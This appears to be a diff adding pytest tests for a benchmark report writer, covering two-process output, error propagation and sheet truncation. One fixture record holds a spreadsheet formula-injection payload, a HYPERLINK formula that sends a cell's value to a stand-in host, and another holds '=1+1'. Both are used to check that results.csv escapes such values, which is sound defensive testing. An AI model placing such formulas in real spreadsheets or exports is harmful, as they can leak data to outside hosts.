@@ -1,0 +1,110 @@
+"""A large report writes its run files (results.csv, texts/, report.xlsx) in a second process:
+the files are the same as one process writes, its failures come back, and the workbook's long
+sheets stop at SHEET_ROWS with a row that says where the rest is."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import openpyxl
+import pytest
+from studyrecords import record, write_run
+
+import wattbench.report.helper as helper
+import wattbench.report.workbook as workbook
+from wattbench.errors import ReportInputError
+from wattbench.report.build import write_report
+
+pytestmark = pytest.mark.filterwarnings("error")  # an unclosed pipe or a leaked process fails
+
+
+def _study(tmp_path: Path) -> Path:
+    """2 models x 2 tasks x 2 levels x 2 runs, one answer a formula, one judged, one failed run."""
+    records = [
+        record(model, task, "short", level, run, rouge_l=0.1 * (run + 1) + (level == "L1") * 0.3,
+               energy_j=50.0 + 10 * run + (model == "b") * 30, latency_s=1.0 + run)
+        for model in ("a", "b") for task in ("qa", "summary") for level in ("L0", "L1") for run in (0, 1)
+    ]
+    records[3]["output_text"] = '=HYPERLINK("https://x/?"&A1, "click")'
+    records[3]["energy_method"] = "=1+1"  # a text column of results.csv
+    records.append({**record("a", run=2), "error": "GenerationError: out of memory"})
+    run = write_run(tmp_path / "run", records)
+    with (run / "judgements.jsonl").open("w", encoding="utf-8") as out:
+        out.write(json.dumps({"case_id": records[0]["case_id"], "run": 0, "judge_score": 0.8,
+                              "judge_reason": "to the point"}) + "\n")
+    return run
+
+
+def _sheets(path: Path) -> dict[str, list[tuple[object, ...]]]:
+    book = openpyxl.load_workbook(path, read_only=True)
+    try:
+        return {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}
+    finally:
+        book.close()
+
+
+def _files(out: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*"))
+            if p.is_file() and p.name != "report.xlsx"}
+
+
+def test_two_processes_write_the_files_one_process_writes(tmp_path: Path) -> None:
+    run = _study(tmp_path)
+    one = write_report([run], tmp_path / "one" / "out", split=False)
+    two = write_report([run], tmp_path / "two" / "out", split=True)
+    assert _files(tmp_path / "one" / "out") == _files(tmp_path / "two" / "out")
+    assert "texts/a/qa/short-L0-default-r1.txt" in str(list(_files(tmp_path / "two" / "out")))
+    books = [_sheets(tmp_path / side / "out" / "report.xlsx") for side in ("one", "two")]
+    assert books[0] == books[1]
+    assert one.files == two.files == ["results.csv", "texts/", "stats.csv", "ratings.csv", "findings.md",
+                                      "report.html", "report.xlsx"]
+    results = (tmp_path / "two" / "out" / "results.csv").read_text(encoding="utf-8")
+    assert ",'=1+1," in results and two.study.records == 16
+
+
+def test_a_failure_in_the_second_process_comes_back(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    (out / "results.csv").mkdir(parents=True)  # the helper cannot open its table
+    with pytest.raises(IsADirectoryError):
+        write_report([_study(tmp_path)], out, split=True)
+    assert not (out / "report.xlsx").exists()
+
+
+def test_nothing_to_report_leaves_no_run_files_from_either_process(tmp_path: Path) -> None:
+    run = write_run(tmp_path / "run", [{**record(), "error": "GenerationError: boom"}])
+    with pytest.raises(ReportInputError, match="nothing to report"):
+        write_report([run], tmp_path / "out", split=True)
+    assert not (tmp_path / "out" / "results.csv").exists() and not (tmp_path / "out" / "report.xlsx").exists()
+
+
+def test_small_reports_stay_in_one_process_large_ones_split(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run = _study(tmp_path)
+    assert not helper.worth_splitting([run])
+    monkeypatch.setattr(helper, "SPLIT_BYTES", 1)
+    monkeypatch.setattr(helper, "_cpus", lambda: 2)
+    assert helper.worth_splitting([run])
+    monkeypatch.setattr(helper, "_cpus", lambda: 1)
+    assert not helper.worth_splitting([run])
+
+
+def test_the_long_sheets_stop_at_the_limit_and_say_where_every_row_is(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)
+    written = write_report([_study(tmp_path)], tmp_path / "out", split=False)
+    sheets = _sheets(tmp_path / "out" / "report.xlsx")
+    detail, stats = sheets["Quality detail"], sheets["Stats"]
+    assert len(detail) == 1 + 3 + 1 and len(stats) == 1 + 3 + 1
+    assert detail[-1][0] == (
+        "3 of 16 runs shown here; every run is in results.csv, every answer in texts/ and results.jsonl"
+    )
+    groups = len(written.study.groups)
+    assert stats[-1][0] == f"3 of {groups} groups shown here; every group, with its CIs, is in stats.csv"
+    assert len(sheets["Per task"]) == 1 + len(written.study.configs)  # summary sheets are complete
+    monkeypatch.setattr(workbook, "SHEET_ROWS", 16)
+    write_report([_study(tmp_path)], tmp_path / "whole", split=False)
+    # No note when every row fits.
+    assert len(_sheets(tmp_path / "whole" / "report.xlsx")["Quality detail"]) == 1 + 16
